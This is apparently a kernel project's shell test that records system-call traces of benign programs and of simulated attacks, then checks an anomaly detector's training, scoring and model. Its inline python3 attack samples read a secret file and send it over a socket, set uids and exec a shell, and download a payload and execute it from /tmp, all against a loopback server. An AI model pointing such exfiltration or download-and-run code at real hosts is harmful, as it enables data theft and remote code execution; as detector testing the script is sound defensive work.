#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
#
# tcp_kernel - offline replay (issue 7, item 7): system call traces of
# real programs and of simulated attacks, recorded in the guest with
# strace -f, replayed by tcp-replay through the kernel's own sequence
# core (behavior/seq.c).  No module is needed: this checks the method
# and the tool on real traces.
#
#  1. Record: busybox tools, shell pipelines and python3 scripts, each run
#     more than once with varied arguments, into a training set and a
#     held-out normal set (the same programs, other arguments); and three
#     simulated attacks, each twice, all real processes:
#     - exfil: python3 reads a secret file, then connects to a loopback
#       listener (busybox httpd) and sends it;
#     - privesc: python3 (root) sets its uids, then its gids, then execs;
#     - dlexec: python3 downloads a script from the loopback server to
#       /tmp, chmods it and execs it.
#     No compiler is in the guest, so none is traced.
#  2. tcp-replay train: exit 0, the profile's format, deterministic.
#  3. tcp-replay score -j: exit 0, the JSON parses, every trace is there;
#     the training set scored against its own profile has no novel
#     trigram; every attack completes its built-in pattern; the held-out
#     normal traces have a low peak LFC; the AUC is in [0, 1] and above a
#     measured bound; --profile and --train give the same scores.
#  4. Errors: a malformed profile is refused with FILE:LINE and exit 1,
#     a usage error exits 2.
#  5. Model: tcp-replay model trains the behaviour model on the normal and
#     attack traces (3-fold cross-validation printed as diagnostics, its
#     JSON checked); the file passes the kernel's checks, score --model
#     reads it back and ranks the attacks above the normal traces; bad
#     model files are refused.
#
# The ROC table (text output) is printed as diagnostics; the numbers are
# in Documentation/behavior.rst ("Offline replay: tcp-replay").

# The python3 -c programs below are single-quoted on purpose.
# shellcheck disable=SC2016
# shellcheck source=SCRIPTDIR/../../lib/tap.sh
. "$TCPK_TESTLIB/tap.sh"

PORT=8054
tmp=$(mktemp -d /tmp/54-replay.XXXXXX) || exit 1
TRAIN=$tmp/train
NORMAL=$tmp/normal
ATTACK=$tmp/attack
WWW=$tmp/www
mkdir -p "$TRAIN" "$NORMAL" "$ATTACK" "$WWW" "$tmp/data"
httpd_pid=
cleanup() {
	[ -z "$httpd_pid" ] || kill "$httpd_pid" 2>/dev/null
	wait 2>/dev/null
	rm -rf "$tmp" /tmp/54-payload-*
}
trap cleanup EXIT

tap_diag "kernel: ${TCPK_KERNEL:-unset} ($(uname -r))"

if ! command -v strace > /dev/null || ! command -v tcp-replay > /dev/null; then
	tap_not_ok "strace and tcp-replay are in the guest" "$(command -v strace tcp-replay)"
	tap_done
	exit 1
fi
t0=$(cut -d. -f1 /proc/uptime)

# rec DIR NAME CMD...: strace -f CMD into DIR/NAME; a failed run or an
# empty trace is remembered in $tmp/recfail.
rec() {
	_dir=$1
	_name=$2
	shift 2
	if ! strace -f -o "$_dir/$_name" "$@" > /dev/null 2> "$tmp/rec.err" ||
		[ ! -s "$_dir/$_name" ]; then
		echo "$_name: $* ($(head -c 300 "$tmp/rec.err"))" >> "$tmp/recfail"
	fi
}

# Data for the benign programs.
i=0
while [ $i -lt 200 ]; do
	echo "line $i $((i * 7919 % 1000)) word$((i % 13))"
	i=$((i + 1))
done > "$tmp/data/a.txt"
seq 1 500 | sed 's/$/ x/' > "$tmp/data/b.txt"
printf 'import json, sys\nd = {"n": int(sys.argv[1]), "sq": [i * i for i in range(int(sys.argv[1]))]}\nprint(json.dumps(d)[:60])\n' \
	> "$tmp/data/sq.py"
printf 'import os, sys\nn = 0\nfor root, dirs, files in os.walk(sys.argv[1]):\n    for f in files:\n        n += os.stat(os.path.join(root, f)).st_size\nprint(n)\n' \
	> "$tmp/data/du.py"
printf 'import sys, collections\nc = collections.Counter(open(sys.argv[1]).read().split())\nprint(c.most_common(3))\n' \
	> "$tmp/data/count.py"

# === 1. record =================================================================
# Training set: every program at least twice, with varied arguments.
rec "$TRAIN" ls-1 ls -la /etc
rec "$TRAIN" ls-2 ls -lR /tcpk/lib
rec "$TRAIN" ls-3 ls /bin
rec "$TRAIN" find-1 find /tcpk -name '*.sh'
rec "$TRAIN" find-2 find /etc -type f
rec "$TRAIN" grep-1 grep -c line "$tmp/data/a.txt"
rec "$TRAIN" grep-2 grep -rn word3 "$tmp/data"
rec "$TRAIN" sort-1 sort -n -k3 "$tmp/data/a.txt"
rec "$TRAIN" sort-2 sort -r "$tmp/data/b.txt"
rec "$TRAIN" sha-1 sha256sum "$tmp/data/a.txt"
rec "$TRAIN" sha-2 sha256sum /etc/passwd /etc/group
rec "$TRAIN" tar-1 tar -cf "$tmp/t1.tar" -C "$tmp" data
rec "$TRAIN" tar-2 tar -tvf "$tmp/t1.tar"
rec "$TRAIN" gzip-1 gzip -c "$tmp/data/a.txt"
rec "$TRAIN" gzip-2 gzip -9c "$tmp/data/b.txt"
rec "$TRAIN" pipe-1 sh -c "cat '$tmp/data/a.txt' | sort | uniq -c | wc -l"
rec "$TRAIN" pipe-2 sh -c "grep word1 '$tmp/data/a.txt' | cut -d' ' -f2 | sort -n | tail -n 3"
rec "$TRAIN" pipe-3 sh -c "find /etc -type f | head -n 5 | xargs wc -c"
rec "$TRAIN" py-sq-1 python3 "$tmp/data/sq.py" 10
rec "$TRAIN" py-sq-2 python3 "$tmp/data/sq.py" 1000
rec "$TRAIN" py-du-1 python3 "$tmp/data/du.py" /tcpk/lib
rec "$TRAIN" py-du-2 python3 "$tmp/data/du.py" /etc
rec "$TRAIN" py-count-1 python3 "$tmp/data/count.py" "$tmp/data/a.txt"
rec "$TRAIN" py-count-2 python3 "$tmp/data/count.py" /etc/passwd

# Held-out normal set: the same programs, other arguments.
rec "$NORMAL" ls-h1 ls -l /tcpk/tests
rec "$NORMAL" find-h1 find /tcpk/lib -type f
rec "$NORMAL" grep-h1 grep -n word7 "$tmp/data/a.txt"
rec "$NORMAL" sort-h1 sort -k2 "$tmp/data/a.txt"
rec "$NORMAL" sha-h1 sha256sum "$tmp/data/b.txt"
rec "$NORMAL" tar-h1 tar -cf "$tmp/t2.tar" -C /tcpk lib
rec "$NORMAL" gzip-h1 gzip -1c /etc/passwd
rec "$NORMAL" pipe-h1 sh -c "cat '$tmp/data/b.txt' | sort -rn | head -n 4"
rec "$NORMAL" pipe-h2 sh -c "grep -c x '$tmp/data/b.txt' | wc -l"
rec "$NORMAL" py-sq-h1 python3 "$tmp/data/sq.py" 77
rec "$NORMAL" py-du-h1 python3 "$tmp/data/du.py" /tcpk/tests
rec "$NORMAL" py-count-h1 python3 "$tmp/data/count.py" "$tmp/data/b.txt"

# The loopback server the attacks talk to.
printf 'secret-token-%s\n' "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')" \
	> "$tmp/secret"
printf 'root:$6$salt$hash:19000:0:99999:7:::\n' > "$tmp/shadow"
printf '#!/bin/sh\necho payload ran\n' > "$WWW/payload"
httpd -f -p "127.0.0.1:$PORT" -h "$WWW" &
httpd_pid=$!
retry 20 sh -c "wget -q -O - http://127.0.0.1:$PORT/payload > /dev/null" ||
	tap_diag "the loopback httpd did not answer"

# Attacks: real python3 processes.
exfil='import socket, sys
d = open(sys.argv[1], "rb").read()
s = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
s.sendall(b"POST / HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(d) + d)
s.recv(100)'
privesc='import os, sys
if sys.argv[1] == "res":
    os.setresuid(0, 0, 0)
    os.setresgid(0, 0, 0)
else:
    os.setuid(0)
    os.setgid(0)
os.execv("/bin/sh", ["sh", "-c", "id"])'
dlexec='import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"GET /payload HTTP/1.0\r\n\r\n")
r = b""
while True:
    b = s.recv(4096)
    if not b:
        break
    r += b
body = r.split(b"\r\n\r\n", 1)[1]
fd = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
os.write(fd, body)
if sys.argv[3] == "fchmod":
    os.fchmod(fd, 0o755)
os.close(fd)
if sys.argv[3] == "chmod":
    os.chmod(sys.argv[2], 0o755)
os.execv(sys.argv[2], [sys.argv[2]])'
rec "$ATTACK" exfil-1 python3 -c "$exfil" "$tmp/secret" "$PORT"
rec "$ATTACK" exfil-2 python3 -c "$exfil" "$tmp/shadow" "$PORT"
rec "$ATTACK" privesc-1 python3 -c "$privesc" res
rec "$ATTACK" privesc-2 python3 -c "$privesc" plain
rec "$ATTACK" dlexec-1 python3 -c "$dlexec" "$PORT" /tmp/54-payload-1 chmod
rec "$ATTACK" dlexec-2 python3 -c "$dlexec" "$PORT" /tmp/54-payload-2 fchmod

ntrain=$(find "$TRAIN" -type f | wc -l)
nnormal=$(find "$NORMAL" -type f | wc -l)
nattack=$(find "$ATTACK" -type f | wc -l)
if [ -s "$tmp/recfail" ]; then
	tap_not_ok "every strace -f run exited 0 with a trace" "$(cat "$tmp/recfail")"
else
	tap_ok "every strace -f run exited 0 with a trace ($ntrain training, $nnormal held-out normal, $nattack attack traces)"
fi
tap_check "the downloaded payload ran (dlexec traces end in a real exec)" \
	grep -q 'execve("/tmp/54-payload-1"' "$ATTACK/dlexec-1"
tap_diag "recording took $(($(cut -d. -f1 /proc/uptime) - t0)) s"

# === 2. train ====================================================================
tcp-replay train --exe /bin/busybox -o "$tmp/profile" "$TRAIN" > "$tmp/train.out" 2>&1
tap_check "tcp-replay train exits 0" test $? = 0
tap_diag "$(cat "$tmp/train.out")"
ntri=$(grep -cv '^#' "$tmp/profile")
tap_check "the profile: the v1 header, an exe line, $ntri trigram lines of three calls < 512" \
	awk -v n="$ntri" 'NR == 1 && $0 != "# tcp_kernel profile v1" { exit 1 }
		NR == 2 && $0 != "# exe /bin/busybox" { exit 1 }
		/^#/ { next }
		NF != 3 || $1 >= 512 || $2 >= 512 || $3 >= 512 { exit 1 }
		END { if (n < 200) exit 1 }' "$tmp/profile"
tcp-replay train --exe /bin/busybox -o "$tmp/profile2" "$TRAIN" 2> /dev/null
tap_check "train is deterministic: the same file again" \
	cmp "$tmp/profile" "$tmp/profile2"

# === 3. score ====================================================================
tcp-replay score -j --profile "$tmp/profile" --normal "$NORMAL" --attack "$ATTACK" \
	> "$tmp/score.json" 2> "$tmp/score.err"
tap_check "tcp-replay score -j exits 0" test $? = 0
tap_check "its JSON parses and holds every trace ($nnormal normal, $nattack attack)" \
	expect_json "$tmp/score.json" \
	"d['normal'] == $nnormal and d['attack'] == $nattack and len(d['traces']) == $((nnormal + nattack)) and d['profile']['trigrams'] == $ntri"
tcp-replay score --profile "$tmp/profile" --normal "$NORMAL" --attack "$ATTACK" \
	> "$tmp/score.txt" 2>&1
tap_check "tcp-replay score (text) exits 0" test $? = 0
tap_diag "$(cat "$tmp/score.txt")"

tap_check "the training traces against their own profile: no novel trigram" \
	sh -c "tcp-replay score -j --profile '$tmp/profile' --normal '$TRAIN' > '$tmp/self.json' &&
		python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
bad = [(t[\"name\"], t[\"novel\"]) for t in d[\"traces\"] if t[\"novel\"] or t[\"lfc_peak\"]]
assert len(d[\"traces\"]) == $ntrain and not bad, bad
' '$tmp/self.json'"

# pattern_of PREFIX PATTERN: every attack trace PREFIX-* completed PATTERN.
pattern_of() {
	expect_json "$tmp/score.json" "(
[t for t in d['traces'] if t['name'].startswith('$1-')] and
all('$2' in [p['name'] for p in t['patterns']] and t['weight'] >= 300
    for t in d['traces'] if t['name'].startswith('$1-')))"
}
tap_check "exfil (read a secret, connect out): both traces complete 'exfiltration'" \
	pattern_of exfil exfiltration
tap_check "privesc (setuid, setgid, exec): both traces complete 'privilege-escalation'" \
	pattern_of privesc privilege-escalation
tap_check "dlexec (download, chmod, exec from /tmp): both traces complete 'download-exec'" \
	pattern_of dlexec download-exec
tap_check "every attack trace completes at least one built-in pattern" \
	expect_json "$tmp/score.json" \
	"all(t['patterns'] for t in d['traces'] if t['class'] == 'attack')"

# Held-out normal traces of programs in the training set.  Measured
# (6.12, 12 held-out traces): peak LFC 0 to 5 (python3 counting words of
# another file, 5), while every attack reached 9 or more (privesc 9,
# exfil and dlexec 13-14); the bound 8 leaves room for a run whose
# programs take a path the training runs did not, and still fails if the
# held-out traces look like the attacks.
LFC_MAX=8
tap_check "held-out normal traces: peak LFC <= $LFC_MAX" \
	expect_json "$tmp/score.json" \
	"all(t['lfc_peak'] <= $LFC_MAX for t in d['traces'] if t['class'] == 'normal')"
# Measured: 1.000 (every attack above every normal trace); 0.9 allows one
# normal trace to overlap the weakest attacks.
AUC_MIN=0.9
tap_check "AUC in [0, 1] and >= $AUC_MIN; 32 thresholds, rates in [0, 1], non-increasing" \
	expect_json "$tmp/score.json" "(
0 <= d['methods']['lfc']['auc'] <= 1 and d['methods']['lfc']['auc'] >= $AUC_MIN and
len(d['methods']['lfc']['roc']) == 32 and
all(0 <= p['detection_rate'] <= 1 and 0 <= p['false_positive_rate'] <= 1
    for p in d['methods']['lfc']['roc']) and
all(a['detection_rate'] >= b['detection_rate'] and
    a['false_positive_rate'] >= b['false_positive_rate']
    for a, b in zip(d['methods']['lfc']['roc'], d['methods']['lfc']['roc'][1:])))"
auc=$(sed -n 's/^AUC \([0-9.]*\)$/\1/p' "$tmp/score.txt")
tap_check "the text AUC ($auc) is the JSON's, rounded" \
	expect_json "$tmp/score.json" \
	"'%.3f' % d['methods']['lfc']['auc'] == '$auc'"
tap_check "patterns: detection 1.0 (every attack flagged)" \
	expect_json "$tmp/score.json" "d['methods']['patterns']['detection_rate'] == 1"
tcp-replay score -j --train "$TRAIN" --normal "$NORMAL" --attack "$ATTACK" \
	> "$tmp/score2.json" 2> /dev/null
tap_check "--train DIR scores as --profile of the same DIR" \
	python3 -c '
import json, sys
a, b = (json.load(open(f)) for f in sys.argv[1:3])
key = lambda d: [(t["name"], t["novel"], t["lfc_peak"], t["weight"]) for t in d["traces"]]
assert key(a) == key(b) and a["methods"]["lfc"]["auc"] == b["methods"]["lfc"]["auc"]
' "$tmp/score.json" "$tmp/score2.json"

# === 4. errors ===================================================================
printf '# tcp_kernel profile v1\n0 1 2\n3 4\n' > "$tmp/bad1"
expect_fail "a malformed trigram is refused with file:line (exit 1)" \
	"bad1:3: malformed trigram" tcp-replay score --profile "$tmp/bad1" --normal "$NORMAL"
tcp-replay score --profile "$tmp/bad1" --normal "$NORMAL" > /dev/null 2>&1
tap_check "... and the exit status is 1" test $? = 1
printf '# tcp_kernel profile v1\n0 1 512\n' > "$tmp/bad2"
expect_fail "a call number of 512 is refused with file:line" \
	"bad2:2: .*not below 512" tcp-replay score --profile "$tmp/bad2" --normal "$NORMAL"
printf '0 1 2\n' > "$tmp/bad3"
expect_fail "a file without the header is refused at line 1" \
	"bad3:1: not a profile" tcp-replay score --profile "$tmp/bad3" --normal "$NORMAL"
tcp-replay score --thresholds 9-3 --normal "$NORMAL" > /dev/null 2>&1
tap_check "a usage error (--thresholds 9-3) exits 2" test $? = 2

# === 5. model ===================================================================
# The behaviour model (behavior/model.c): trained on the recorded normal
# and attack traces with the profile above, cross-validated over traces
# (3 folds: the held-out numbers are not measured on the training set).
t1=$(cut -d. -f1 /proc/uptime)
tcp-replay model -j --profile "$tmp/profile" --normal "$NORMAL" --attack "$ATTACK" \
	-o "$tmp/model" > "$tmp/model.json" 2> "$tmp/model.err"
tap_check "tcp-replay model -j exits 0" test $? = 0
tap_check "the model file: the v1 header, bias, threshold 500, points 300, eleven weights within +-4096" \
	awk 'NR == 1 && $0 != "# tcp_kernel model v1" { exit 1 }
		/^#/ { next }
		$1 == "bias" { b = NF == 2 && $2 >= -4194304 && $2 <= 4194304 }
		$1 == "threshold" { t = $0 == "threshold 500" }
		$1 == "points" { p = $0 == "points 300" }
		$1 == "weights" { w = NF == 12
			for (i = 2; i <= NF; i++) if ($i < -4096 || $i > 4096) w = 0 }
		END { if (!(b && t && p && w)) exit 1 }' "$tmp/model"
tap_check "its cross-validated numbers parse: 3 folds whose held-out traces are every trace once, rates in [0, 1]" \
	expect_json "$tmp/model.json" "(
len(d['folds']) == 3 and d['folds_count'] == 3 and
sum(f['attack'] for f in d['folds']) == $nattack == d['cross_validated']['attack'] and
sum(f['normal'] for f in d['folds']) == $nnormal == d['cross_validated']['normal'] and
all(0 <= d[k][r] <= 1 for k in ('cross_validated', 'training_set')
    for r in ('detection_rate', 'false_positive_rate', 'auc')))"
tap_diag "$(python3 -c '
import json, sys
d = json.load(open(sys.argv[1]))
for f in d["folds"]:
    print("model fold %d: detected %d/%d attack, %d/%d normal flagged (trained on %d+%d windows)" % (
        f["fold"], f["detected"], f["attack"], f["false_positives"], f["normal"],
        f["train_windows_attack"], f["train_windows_normal"]))
for k in ("cross_validated", "training_set"):
    c = d[k]
    print("model %s: detection %.3f (%d/%d), false positives %.3f (%d/%d), AUC %.3f" % (
        k, c["detection_rate"], c["detected"], c["attack"], c["false_positive_rate"],
        c["false_positives"], c["normal"], c["auc"]))
m = d["model"]
print("model: bias %d, weights %s" % (m["bias"], " ".join(map(str, m["weights"]))))
' "$tmp/model.json" 2>&1)"

tcp-replay score -j --profile "$tmp/profile" --normal "$NORMAL" --attack "$ATTACK" \
	--model "$tmp/model" > "$tmp/mscore.json" 2> "$tmp/mscore.err"
tap_check "tcp-replay score --model reads the model back (exit 0)" test $? = 0
tap_check "score --model: every trace has its highest window probability, the model method its rates" \
	expect_json "$tmp/mscore.json" "(
len(d['traces']) == $((nnormal + nattack)) and
all(t['model_max'] is None or 0 <= t['model_max'] <= 1000 for t in d['traces']) and
all(t['model_flagged'] == ((t['model_max'] or -1) >= 500) for t in d['traces']) and
d['methods']['model']['threshold'] == 500 and len(d['methods']['model']['roc']) == 11 and
0 <= d['methods']['model']['auc'] <= 1)"
# The model, trained on these very traces, must score the attacks above
# the normal traces on average; and its area (over every trace's highest
# window) above a bound.  Measured (6.12, QEMU TCG): 1.000 on the
# training traces (every attack's highest window above every normal
# trace's), 0.972 cross-validated (3 folds); 0.8 leaves room for a run
# whose start-up windows differ (a held-out normal trace at 600 per
# mille was the closest), and still fails for a model that does not
# tell the classes apart (0.5).
MODEL_AUC_MIN=0.8
tap_check "the model scores the attack traces above the normal ones on average, AUC >= $MODEL_AUC_MIN" \
	expect_json "$tmp/mscore.json" "(
(lambda a, n: sum(a) / len(a) > sum(n) / len(n))(
    [t['model_max'] or 0 for t in d['traces'] if t['class'] == 'attack'],
    [t['model_max'] or 0 for t in d['traces'] if t['class'] == 'normal']) and
d['methods']['model']['auc'] >= $MODEL_AUC_MIN)"
tcp-replay score --profile "$tmp/profile" --normal "$NORMAL" --attack "$ATTACK" \
	--model "$tmp/model" > "$tmp/mscore.txt" 2>&1
tap_check "score --model (text) exits 0 and prints the model's AUC" \
	grep -q '^model AUC [0-9.]*$' "$tmp/mscore.txt"
tap_diag "$(sed -n '/^ROC, model/,$p' "$tmp/mscore.txt")"
printf '# tcp_kernel model v1\nbias 0\nthreshold 500\npoints 300\nweights 0 0 0 0 0 0 0 0 0 0 5000\n' > "$tmp/mbad1"
expect_fail "a weight beyond 4096 is refused with the kernel's check's message" \
	"mbad1: model: a weight is beyond" tcp-replay score --model "$tmp/mbad1" --normal "$NORMAL"
printf '# tcp_kernel model v1\nbias 0\nthreshold 500\npoints 300\nweights 0 0 0\n' > "$tmp/mbad2"
expect_fail "a short weights line is refused with file:line" \
	"mbad2:5: malformed weights" tcp-replay score --model "$tmp/mbad2" --normal "$NORMAL"
tap_diag "the model steps took $(($(cut -d. -f1 /proc/uptime) - t1)) s"

tap_diag "54-replay took $(($(cut -d. -f1 /proc/uptime) - t0)) s"
tap_done
